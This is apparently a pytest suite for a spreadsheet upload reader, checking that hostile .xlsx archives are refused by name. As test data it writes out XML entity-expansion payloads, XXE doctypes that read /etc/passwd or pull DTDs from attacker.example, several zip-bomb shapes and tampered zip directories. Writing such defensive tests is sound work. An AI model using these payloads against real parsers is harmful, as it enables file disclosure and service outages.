"""Workbook archives built to attack: every one refused before its XML is parsed, and named."""

from __future__ import annotations

import io
import zipfile

import pytest

from shared.errors import FileRejected
from shared.files.reader import inspect_table
from tests.support.raw_xlsx import (
    directory_entry,
    patch_directory,
    sheet,
    users_sheet,
    workbook,
    workbook_parts,
    zipped,
)

LIMITS = {"max_rows": 500, "max_bytes": 5 * 1024 * 1024}
SHEET = "xl/worksheets/sheet1.xml"
BOOK = workbook(("Users", users_sheet(("u2", "u2@example.com"))))
LAUGHS = '<!DOCTYPE worksheet [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def refused(data: bytes) -> str:
    """The message of the refusal (always unreadable_file for these)."""
    with pytest.raises(FileRejected) as caught:
        inspect_table(data, "users.xlsx", **LIMITS)
    assert caught.value.code == "unreadable_file", caught.value.message
    return caught.value.message


def with_part(name: str, content: str | bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    return zipped(workbook_parts(("Users", users_sheet(("u2", "u2@example.com")))) | {name: content}, method)


@pytest.mark.parametrize("part", [SHEET, "xl/workbook.xml", "xl/sharedStrings.xml", "[Content_Types].xml"])
def test_entity_declarations_are_named_in_any_part(part):
    parts = workbook_parts(
        ("Users", users_sheet(("u2", "u2@example.com"))),
        shared_strings='<?xml version="1.0"?><sst xmlns="x"/>',
    )
    parts[part] = parts[part].replace("?>", "?>" + LAUGHS, 1)
    assert "declares XML entities" in refused(zipped(parts))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE worksheet SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE worksheet [<!ENTITY % p PUBLIC "-//X//EN" "http://attacker.example/p.dtd"> %p;]>',
    ],
)
def test_external_entities_are_named_xxe(doctype):
    assert "(an XML external entity, XXE)" in refused(with_part(SHEET, sheet("", prolog=doctype)))


def test_a_bare_doctype_is_named_too():
    assert "DOCTYPE declaration" in refused(with_part(SHEET, sheet("", prolog="<!DOCTYPE worksheet>")))


def test_a_doctype_hidden_after_a_long_comment_or_in_utf16_is_found():
    late = sheet("", prolog="<!--" + "x" * 100_000 + "-->" + LAUGHS)
    assert "declares XML entities" in refused(with_part(SHEET, late))
    utf16 = sheet("", prolog=LAUGHS).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert "declares XML entities" in refused(with_part(SHEET, utf16))


def test_a_part_larger_than_its_directory_claims_is_named():
    size = directory_entry(BOOK, SHEET).file_size
    assert "unpacks to more than the" in refused(patch_directory(BOOK, SHEET, file_size=size - 1))
    assert "size or checksum" in refused(patch_directory(BOOK, SHEET, file_size=size + 1))
    assert "size or checksum" in refused(patch_directory(BOOK, SHEET, crc=0))
    assert "is damaged" in refused(patch_directory(BOOK, SHEET, compress_size=7))


def test_zip_bombs_of_several_shapes_are_named():
    assert "(a zip bomb)" in refused(with_part(SHEET, sheet(" " * (3 * 1024 * 1024))))
    parts = workbook_parts(("Users", users_sheet(("u2", "u2@example.com"))))
    wide = parts | {f"xl/media/pad{i}.bin": b"\0" * 1024 * 1024 for i in range(65)}
    assert "unpacks to 65" in refused(zipped(wide))
    many = parts | {f"customXml/item{i}.xml": "<a/>" for i in range(1001)}
    assert "1," in refused(zipped(many)) and "parts" in refused(zipped(many))
    first = directory_entry(BOOK, "[Content_Types].xml").header_offset
    assert "overlapping zip bomb" in refused(patch_directory(BOOK, SHEET, offset=first))


def test_parts_parsed_whole_and_cells_only_formatted_are_bounded():
    styles = '<styleSheet xmlns="x">' + "<a/>" * 1_100_000 + "</styleSheet>"
    stored = with_part("xl/styles.xml", styles, zipfile.ZIP_STORED)  # not compressed: no zip bomb
    assert "far more than a user list needs" in refused(stored)
    cells = "".join(f'<row r="{r}">' + "<c/>" * 1000 + "</row>" for r in range(2, 700))
    assert "XML tags" in refused(with_part(SHEET, sheet(cells), zipfile.ZIP_STORED))


def test_odd_zip_features_are_refused_by_name():
    bzip = zipped(workbook_parts(("Users", users_sheet(("u2", "u2@example.com")))), zipfile.ZIP_BZIP2)
    assert "ZIP method 12" in refused(bzip)
    assert "is encrypted" in refused(patch_directory(BOOK, SHEET, flags=1))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        for name, content in [*workbook_parts(("Users", sheet(""))).items(), (SHEET, sheet(""))]:
            archive.writestr(name, content)
    assert "same name" in refused(out.getvalue())


def test_broken_cells_name_their_row():
    index = users_sheet(("u2", "u2@example.com")).replace(
        't="inlineStr"><is><t>u2</t></is>', 't="s"><v>7</v>'
    )
    assert "Row 2 of the sheet cannot be read" in refused(with_part(SHEET, index))
    style = sheet('<row r="2"><c r="A2" s="99"><v>1</v></c></row>')
    assert "Row 2 of the sheet cannot be read" in refused(with_part(SHEET, style))
    assert "cannot be read" in refused(with_part(SHEET, sheet('<row r="2"><c r="A2"><v>1</v>')))
